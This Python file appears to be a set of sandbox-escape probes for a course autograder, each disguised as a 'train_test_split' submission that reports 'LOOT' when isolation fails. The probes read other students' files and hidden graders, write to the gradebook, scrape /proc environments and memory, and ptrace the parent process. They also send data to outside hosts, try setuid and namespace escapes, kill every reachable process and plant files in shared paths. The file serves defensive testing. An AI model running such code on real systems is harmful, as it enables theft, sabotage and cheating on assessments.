# %% train_test_split reads_the_neighbour
# Files of the course: the gradebook, the seed, the notebook of another student.
def train_test_split(X_scaled, ratio=0.8):
    import pathlib

    return [path.read_text() for path in sorted(pathlib.Path("OUTSIDE").rglob("*.*"))]


# %% train_test_split writes_the_gradebook
# Points are entered into the gradebook's database.
def train_test_split(X_scaled, ratio=0.8):
    import sqlite3

    with sqlite3.connect("OUTSIDE/gradebook.db") as book:
        book.execute("create table grade (points)")
    return "LOOT entered"


# %% train_test_split walks_everywhere
# Every folder is searched for notebooks, graders and databases.
def train_test_split(X_scaled, ratio=0.8):
    import os

    wanted = ("misconceptions", "variants", "assignment.toml", "CANARY")
    found = []
    for folder, folders, files in os.walk("/"):
        folders[:] = [f for f in folders if os.path.join(folder, f) not in ("/proc", "/sys")]
        found += [f"LOOT {folder}/{f}" for f in [*folders, *files] if f in wanted]
    return found


# %% train_test_split asks_proc
# The environment, the memory and the root of other processes are read.
def train_test_split(X_scaled, ratio=0.8):
    import glob
    import os

    found = []
    for folder in glob.glob("/proc/[0-9]*"):
        if folder == f"/proc/{os.getpid()}":
            continue
        try:
            command = open(f"{folder}/cmdline").read()
            if "SparkSubmit" in command or "python_workers" in command:
                continue  # Spark is the student's own ground
            open(f"{folder}/mem", "rb").close()
            # The sandbox's first process has no capability and knows nothing: it is no loot.
            found += [] if folder == "/proc/1" else [f"LOOT memory of {folder}"]
        except OSError:
            pass
        for name in ("environ", "root/OUTSIDE/gradebook.db", "cwd/gradebook.db"):
            try:
                text = open(f"{folder}/{name}", errors="replace").read()
                found += [f"LOOT {folder} {text}"] if "SECRET" in text or "CANARY" in text else []
            except OSError:
                pass
    return found


# %% train_test_split traces_its_parent
# The process that opens the sessions is traced, to change the next one.
def train_test_split(X_scaled, ratio=0.8):
    import ctypes
    import os

    ptrace_attach = 16
    library = ctypes.CDLL(None, use_errno=True)
    return "LOOT" if library.ptrace(ptrace_attach, os.getppid(), 0, 0) == 0 else None


# %% train_test_split writes_its_parents_memory
# process_vm_writev on the process that opens the sessions.
def train_test_split(X_scaled, ratio=0.8):
    import ctypes
    import os

    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    buffer = ctypes.create_string_buffer(b"student")
    mine = Vector(ctypes.cast(buffer, ctypes.c_void_p), 7)
    theirs = Vector(id(os), 7)
    library = ctypes.CDLL(None)
    read = library.process_vm_readv
    got = read(os.getppid(), ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
    return "LOOT" if got > 0 else None


# %% train_test_split calls_home
# Connections to a server of this machine, to the world, and to a name server.
def train_test_split(X_scaled, ratio=0.8):
    import socket

    for address in (("127.0.0.1", PORT), ("1.1.1.1", 53), ("pypi.org", 443)):
        try:
            with socket.create_connection(address, timeout=1) as line:
                line.sendall(repr(X_scaled).encode())
                return "LOOT"
        except OSError:
            pass


# %% train_test_split opens_its_own_world
# A user namespace of its own, in which it would be root and could mount.
def train_test_split(X_scaled, ratio=0.8):
    import ctypes

    new_user, new_mount = 0x10000000, 0x00020000
    return "LOOT" if ctypes.CDLL(None).unshare(new_user | new_mount) == 0 else None


# %% train_test_split becomes_root
# The user is changed, and a file's owner.
def train_test_split(X_scaled, ratio=0.8):
    import os

    found = []
    for name, act in (
        ("setuid", lambda: os.setuid(0)),
        ("chroot", lambda: os.chroot("/tmp")),
        ("mknod", lambda: os.mknod("/tmp/disk", 0o60600, os.makedev(8, 0))),
    ):
        try:
            act()
            found.append(f"LOOT {name}")
        except OSError:
            pass
    return found


# %% train_test_split kills_everything
# A signal to every process that can be reached.
def train_test_split(X_scaled, ratio=0.8):
    import os
    import signal

    for victim in (1, os.getppid(), -1):
        try:
            os.kill(victim, signal.SIGKILL)
        except OSError:
            pass


# %% train_test_split imports_the_graders
# The hidden graders and right variants are imported from where they are installed. The probes lie
# there for all to see: they hold no answer.
def train_test_split(X_scaled, ratio=0.8):
    import importlib
    import pathlib

    import autograder

    files = pathlib.Path(autograder.__file__).parent.rglob("graders/**/*.py")
    found = [f"LOOT {file}" for file in files if "probes" not in str(file)]
    for name in ("autograder.grading", "autograder.referee", "autograder.versions"):
        try:
            importlib.import_module(name)
            found.append(f"LOOT {name}")
        except ImportError:
            pass
    return found


# %% train_test_split writes_what_others_read
# Files in folders that programs of others, or later sessions, would read.
def train_test_split(X_scaled, ratio=0.8):
    import os
    import sys

    found = []
    for folder in ("/", "/usr", "/dev", "/judge/code", sys.prefix, *sys.path, "OUTSIDE"):
        try:
            open(os.path.join(folder or ".", "left.py"), "w").close()
            if not os.path.realpath(folder or ".").startswith(os.path.expanduser("~")):
                found.append(f"LOOT {folder}")
        except OSError:
            pass
    return found
